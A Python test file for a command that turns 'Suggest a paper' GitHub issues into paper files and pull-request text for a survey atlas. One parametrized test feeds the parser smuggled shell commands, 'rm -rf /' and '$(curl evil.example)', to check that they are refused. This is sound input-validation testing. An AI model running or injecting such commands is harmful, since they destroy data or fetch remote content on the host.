"""``surveyatlas add-suggestion``: a "Suggest a paper" issue becomes a paper file and a PR text."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from surveyatlas import arxiv
from surveyatlas.cli import main
from surveyatlas.errors import UsageError
from surveyatlas.suggestion import Suggestion, parse_issue

from .httpstub import FakeTime, atom, by_arxiv_id, serve

TOPIC = "vision-language/architecture/connectors"


def issue(arxiv_field: str, topics: str, why: str = "_No response_") -> str:
    """An issue body as GitHub writes it from the form."""
    return (
        f"### arXiv id or URL\n\n{arxiv_field}\n\n### Topics\n\n{topics}\n\n"
        f"### Why it belongs in the atlas\n\n{why}\n"
    )


def test_parse_a_form_body() -> None:
    body = issue("https://arxiv.org/abs/2304.08485v2", f"- `{TOPIC}`\r\nvision-language/training\n")
    assert parse_issue(body) == Suggestion("2304.08485", [TOPIC, "vision-language/training"], "")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (issue("2304.08485; rm -rf /", TOPIC), "not an arXiv id or URL: '2304.08485; rm -rf /'"),
        (issue("2304.08485", "$(curl evil.example)"), "'$(curl evil.example)', which is not a"),
        (issue("2304.08485", "_No response_"), "has no 'Topics' field"),
        ("Please add LLaVA", "has no 'arXiv id or URL' or 'Topics' field"),
        (issue("2304.08485", "\n".join(f"a/t{i}" for i in range(11))), "at most 10 please"),
    ],
)
def test_bad_issues_are_refused(body: str, message: str) -> None:
    with pytest.raises(UsageError, match=re.escape(message)):
        parse_issue(body)


def test_add_suggestion_writes_the_paper_and_the_pull_request_text(
    atlas_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeTime()
    monkeypatch.setattr(arxiv, "SLEEP", fake.sleep)
    monkeypatch.setattr(arxiv, "CLOCK", fake.clock)
    monkeypatch.setattr(arxiv, "_shared_limiter", None)
    body = tmp_path / "issue.md"
    body.write_text(issue("2304.08485", TOPIC, "It is `great` @octocat\n```\nbreak out\n```"))
    out = tmp_path / "pr"
    with serve({"2304.08485": [atom("plain.xml")]}, by_arxiv_id) as stub:
        code = main(
            [
                "add-suggestion", str(body), "--issue", "12", "--pr-dir", str(out),
                "--content", str(atlas_copy), "--arxiv-api", stub.url,
            ]
        )  # fmt: skip
    assert code == 0
    path = atlas_copy / "papers" / "liu2023visual.yml"
    assert path.exists()
    assert (out / "title.txt").read_text() == "Add paper: Visual Instruction Tuning\n"
    assert (out / "path.txt").read_text() == f"{path}\n"
    assert (out / "body.md").read_text() == (
        f"Adds `liu2023visual` — `Visual Instruction Tuning` "
        f"([arXiv 2304.08485](https://arxiv.org/abs/2304.08485)) as `{path}`, under:\n\n"
        f"- `{TOPIC}`\n\n"
        "Before merging, a maintainer:\n\n"
        "- [ ] writes the summary in our own words (the file marks it TODO)\n"
        "- [ ] checks the title, authors and date against the arXiv page\n"
        "- [ ] checks that the topics fit\n\n"
        "Why, in the suggester's words:\n\n"
        "````text\nIt is `great` @octocat\n```\nbreak out\n```\n````\n\n"
        "Closes #12.\n"
    )


def test_unknown_topic_in_the_issue_writes_nothing(
    atlas_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    body = tmp_path / "issue.md"
    body.write_text(issue("2304.08485", "vision-language/nope"))
    before = set((atlas_copy / "papers").iterdir())
    assert main(["add-suggestion", str(body), "--content", str(atlas_copy)]) == 2
    assert "unknown topic 'vision-language/nope'" in capsys.readouterr().err
    assert set((atlas_copy / "papers").iterdir()) == before
